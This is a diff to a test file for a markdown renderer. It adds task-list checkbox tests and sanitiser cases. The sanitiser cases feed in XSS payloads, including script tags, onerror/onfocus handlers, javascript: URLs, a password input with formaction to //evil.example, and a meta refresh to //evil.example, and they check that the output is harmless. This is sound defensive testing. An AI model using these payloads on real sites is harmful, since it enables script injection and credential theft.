@@ -53,6 +53,14 @@ test.each([
 	['a page behind a formula', '$\\colorbox{red}{x} \\raisebox{-90em}{x} \\rule{900em}{900em} \\Huge x_1$'],
 	['a script address as a video', '![x](javascript:alert(1).mp4) <img src="javascript:alert(1)//x.mp4">'],
 	['a class of ours', '<span class="btn fixed">x</span><b class="toast" id="main">x</b>'],
+	[
+		'a field of a form',
+		'- [ ] <input type=password name=password autofocus onfocus=alert(1)>\n- <input type=checkbox form=x> <b><input formaction=//evil.example type=image src=x></b>',
+	],
+	[
+		'markup in the box of a task',
+		'- [x"><script>alert(1)</script>] a\n- [<img src=x onerror=alert(1)>] b\n- [x] <script>alert(1)</script>',
+	],
 	['a meta refresh', '<meta http-equiv=refresh content="0;url=//evil.example"><base href="//evil.example">'],
 ])('%s is harmless', async (_family, markdown) => {
 	const html = await htmlOf(markdown)
@@ -76,6 +84,7 @@ const harmless = new RegExp(
 		'^<figure class="code">$',
 		'^<pre tabindex="0">$',
 		'^<span class="s-[kfsntc]">$',
+		'^<input type="checkbox" aria-label="Done" disabled( checked)? />$',
 	].join('|'),
 )
 
@@ -194,6 +203,31 @@ test('a table whose first letter is written from right to left begins on the rig
 	expect(await htmlOf('| שם | n |\n|---|---|\n| א | 1 |')).toMatch(/^<table dir="rtl">/)
 })
 
+const [open, done] = ['', ' checked'].map((state) => `<input type="checkbox" aria-label="Done" disabled${state} />`)
+
+test.each([
+	[
+		'- [ ] a\n- [x] **b**\n- [X] `c`',
+		`<ul><li>${open}a</li><li>${done}<strong>b</strong></li><li>${done}<code>c</code></li></ul>`,
+	],
+	['1. [x] a\n   - [ ] b', `<ol><li>${done}a<ul><li>${open}b</li></ul></li></ol>`],
+	['- [x] a\n\n- b', `<ul><li><p>${done}a</p></li><li><p>b</p></li></ul>`],
+	['> * [x]   שלום', `<blockquote dir="rtl"><ul dir="rtl"><li>${done}שלום</li></ul></blockquote>`],
+	[
+		'- [x] [a](https://b.example)',
+		`<ul><li>${done}<a href="https://b.example" rel="nofollow ugc noopener">a</a></li></ul>`,
+	],
+	['- [x] ', '<ul><li>[x]</li></ul>'],
+	[
+		'- [x]a\n- [  ] b\n- [y] c\n- d [x] e\n- \\[x] f\n- `[x] g`',
+		'<ul><li>[x]a</li><li>[  ] b</li><li>[y] c</li><li>d [x] e</li><li>[x] f</li><li><code>[x] g</code></li></ul>',
+	],
+	['[x] a\n\n> [ ] b', '<p>[x] a</p><blockquote><p>[ ] b</p></blockquote>'],
+	['- [x](https://b.example) a', '<ul><li><a href="https://b.example" rel="nofollow ugc noopener">x</a> a</li></ul>'],
+])('task lists: %j', async (markdown, html) => {
+	expect((await htmlOf(markdown)).replaceAll('\n', '')).toBe(html)
+})
+
 const figure = (label: string, code: string) =>
 	`<figure class="code"><header><span>${label}</span></header><pre tabindex="0"><code>${code}</code></pre></figure>`
 
@@ -295,6 +329,8 @@ test.each([
 		'<!--',
 		'</p>',
 		'<ul><li>',
+		'- [x] ',
+		'- [ ] a\n',
 	],
 	...[
 		'```js\nconst a = `x` /* a */ + "s"\n```\n',
